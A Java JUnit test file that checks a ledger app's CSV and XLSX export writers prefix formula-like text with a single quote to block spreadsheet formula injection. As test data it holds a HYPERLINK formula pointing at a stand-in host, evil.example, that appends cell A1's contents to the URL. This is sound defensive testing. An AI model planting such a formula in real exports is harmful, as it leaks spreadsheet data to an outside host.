package org.jpledger.reporting.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Text a spreadsheet could run as a formula leaves every export writer behind a single quote; other text, numbers
 * (negative ones too) and dates leave as they are.
 */
class CellTextTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")";

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+62 812", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "="})
    void prefixesTextThatASpreadsheetCouldTakeForAFormula(String text) {
        assertThat(CellText.neutralised(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Budi Santoso", "198503302010011002", "'=already quoted", " =1+1", "Dinas #1",
        "a=b", "\n=1"})
    void leavesOtherTextAsItIs(String text) {
        assertThat(CellText.neutralised(text)).isEqualTo(text);
    }

    @Test
    void csvNeutralisesTextCellsButWritesNegativeNumbersAsNumbers() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvTableWriter writer = new CsvTableWriter(bytes, ExportLayout.DEFAULT)) {
            writer.row(new Object[] {HYPERLINK, "-5", new BigDecimal("-7.5"), -3, "@x", "\r=1", "Budi",
                LocalDate.of(2026, 1, 2)});
        }

        List<List<String>> rows = CsvRows.parse(bytes.toString(StandardCharsets.UTF_8), ',');
        assertThat(rows.get(0)).containsExactly("'" + HYPERLINK, "'-5", "-7.5", "-3", "'@x", "'\r=1", "Budi",
                "2026-01-02");
    }

    @Test
    void xlsxNeutralisesTextCellsButKeepsNegativeNumbersAsNumberCells() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (XlsxTableWriter writer = new XlsxTableWriter(bytes, ExportLayout.DEFAULT, "Kepatuhan")) {
            writer.header(List.of("Nama", "Angka", "Teks"));
            writer.row(new Object[] {HYPERLINK, new BigDecimal("-7.5"), "+62 812"});
            writer.trailer(1, null);
        }

        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(bytes.toByteArray()))) {
            Row row = workbook.getFirstSheet().read().get(1);
            assertThat(row.getCell(0).getType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(0).asString()).isEqualTo("'" + HYPERLINK);
            assertThat(row.getCell(1).getType()).isEqualTo(CellType.NUMBER);
            assertThat(row.getCell(1).asNumber()).isEqualByComparingTo("-7.5");
            assertThat(row.getCell(2).asString()).isEqualTo("'+62 812");
        }
    }
}
